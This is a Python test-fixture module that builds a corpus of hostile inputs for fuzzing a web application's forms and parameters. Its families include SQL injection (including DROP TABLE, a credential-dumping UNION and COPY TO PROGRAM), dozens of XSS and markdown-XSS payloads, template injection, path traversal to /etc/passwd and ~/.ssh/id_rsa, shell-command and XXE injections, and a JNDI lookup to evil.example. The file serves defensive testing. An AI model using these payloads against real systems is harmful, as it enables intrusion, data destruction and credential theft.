"""The hostile-input corpus: values an attacker (or a careless paste) sends, grouped by family.

A value is text, or bytes for what is not valid UTF-8 (sent percent-encoded, as a browser would).
``SAMPLE`` is the short run of every test session; the whole ``CORPUS`` runs with
``--hostile-full`` (CI).
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    family: str
    value: str | bytes

    @property
    def id(self) -> str:
        shown = self.value if isinstance(self.value, str) else self.value.decode("latin-1")
        shown = "".join(c if c.isalnum() else "_" for c in shown[:24])
        return f"{self.family}-{len(self.value)}-{shown}"

    @property
    def is_xss(self) -> bool:
        return self.family in {"xss", "markdown-xss"}

    @property
    def text(self) -> str:
        """The value as the server decodes it (invalid UTF-8 becomes U+FFFD)."""
        return self.value if isinstance(self.value, str) else self.value.decode("utf-8", "replace")

    @property
    def reflection_marker(self) -> str | None:
        """What must never appear verbatim in an HTML page: the value, when escaping would change it."""
        text = self.text
        if len(text) >= 6 and any(c in text for c in "<>\"'"):
            return text
        return None


_SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "1; DROP TABLE articles_article; --",
    "'; DELETE FROM auth_user; --",
    "1' UNION SELECT username, password FROM auth_user --",
    "' AND SLEEP(5) --",
    "'; SELECT pg_sleep(5); --",
    "1) OR (1=1",
    "admin'--",
    "%' AND '%'='",
    "\\'; COPY (SELECT '') TO PROGRAM 'id'; --",
    "1 AND 1=CAST((SELECT version()) AS int)",
    "' || (SELECT current_user) || '",
    "$$; SELECT 1; $$",
    "E'\\x27'",
    "0x27 OR 1=1",
    "-1 OR 1=1",
    "1e309",
    "99999999999999999999999999",
    "-9223372036854775809",
    "NaN",
    "Infinity",
]

_XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(document.domain)</sCrIpT>",
    "<script src=/static/js/ask.js></script>",
    "<script>window.__pwned=1</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus="alert(1)',
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="window.__pwned=1">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='jav&#x09;ascript:alert(1)'>tab</a>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "`-alert(1)-`",
    "'-alert(1)-'",
    '";alert(1);//',
    "</script><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "<x contenteditable onblur=alert(1)>lose focus",
    "<a id=x tabindex=1 onfocusin=alert(1)></a><input autofocus>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
]

_MARKDOWN_XSS = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    '[a](https://example.org "title" onmouseover=alert(1))',
    "```html\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "[@<script>alert(1)</script>]",
    '[@key"><img src=x onerror=alert(1)>]',
    "[^1]: <script>alert(1)</script>",
    "<details><summary>x</summary><script>alert(1)</script></details>",
]

_TEMPLATE = [
    "{{ 7*7 }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "{{ request.META }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% include '/etc/passwd' %}",
    "[[7*7]]",
    "%(secret)s %s %d %n",
    "{0.__class__} {}",
]

_CONTROL = [
    "\x00",
    "a\x00b",
    "\x00" * 64,
    "question\x00<script>alert(1)</script>",
    "\x01\x02\x03",
    "\x08",
    "soft\x0bbreak",
    "page\x0cbreak",
    "\x1b[31mred\x1b[0m",
    "\x7f",
    "\x85next line",
    "a\rb",
    "a\r\nSet-Cookie: pwned=1",
    "\r\n\r\n<script>alert(1)</script>",
    "\u2028\u2029",
    "\u202etxt.exe",
    "\ufeffbom",
    "zero\u200bwidth\u200d",
    "\ufffe\uffff",
]

_HUGE = [
    "A" * 100_000,
    "<" * 100_000,
    "<" * 20_000,
    "é" * 50_000,
    ("<script>alert(1)</script>" * 4000)[:100_000],
    "a " * 50_000,
    "9" * 100_000,
    "[" * 50_000 + "]" * 50_000,
    "{" * 10_000,
    "\U0001f600" * 25_000,
    "e" + "\u0301" * 10_000,
]

_INVALID_UTF8 = [
    b"\xff",
    b"\xfe\xff",
    b"\xc0\xaf",
    b"\xe0\x80\xaf",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\xe2\x82",
    b"caf\xe9",
    b"\x80\x81\x82",
    b"ok\xffok<script>alert(1)</script>",
]

_PATHS_AND_URLS = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f",
    "/%2e%2e/%2e%2e/",
    "file:///etc/passwd",
    "//evil.example/",
    "https://evil.example/",
    "\\\\evil.example\\share",
    "/\\evil.example",
    "http://127.0.0.1:8000/admin/",
    "http://[::1]/",
    "C:\\Windows\\win.ini",
    "~/.ssh/id_rsa",
    "?next=//evil.example",
    "#<script>alert(1)</script>",
]

_INJECTION = [
    "; ls -la",
    "| cat /etc/passwd",
    "`id`",
    "$(id)",
    "&& shutdown -h now",
    "*)(uid=*))(|(uid=*",
    '{"$gt": ""}',
    "[$ne]=1",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/a}",
    "__proto__",
    "constructor[prototype][polluted]=1",
]

_ODD = [
    "",
    " ",
    "0",
    "-1",
    "00000000001",
    "١٢٣",
    "٠",
    "1.5",
    "true",
    "null",
    "None",
    "undefined",
    "[]",
    "{}",
    "2024-13-45",
    "0000-00-00",
    "9999-12-31T23:59:59",
    "10000-01-01",
    "ǅemo Ⅻ ﬁle",
    "İstanbul ß ﬀ",
    "שלום עולם",
    "مرحبا",
    "\U0001f489\U0001fa7a\u2764\ufe0f",
    "a" * 255,
    "a" * 256,
    "x" * 1001,
]

CORPUS: list[Hostile] = [
    *(Hostile("sql", v) for v in _SQL),
    *(Hostile("xss", v) for v in _XSS),
    *(Hostile("markdown-xss", v) for v in _MARKDOWN_XSS),
    *(Hostile("template", v) for v in _TEMPLATE),
    *(Hostile("control", v) for v in _CONTROL),
    *(Hostile("huge", v) for v in _HUGE),
    *(Hostile("invalid-utf8", v) for v in _INVALID_UTF8),
    *(Hostile("path", v) for v in _PATHS_AND_URLS),
    *(Hostile("injection", v) for v in _INJECTION),
    *(Hostile("odd", v) for v in _ODD),
]

# What every test run drives through every form and parameter: the values that found bugs.
SAMPLE: list[Hostile] = [
    Hostile("xss", '"><script>alert(1)</script>'),
    Hostile("control", "a\x00b"),
    Hostile("control", "\x1b[31mred\x1b[0m"),
    Hostile("huge", "<" * 20_000),
    Hostile("invalid-utf8", b"ok\xffok<script>alert(1)</script>"),
    Hostile("sql", "99999999999999999999999999"),
]

XSS_PAYLOADS: list[str] = [h.text for h in CORPUS if h.is_xss]
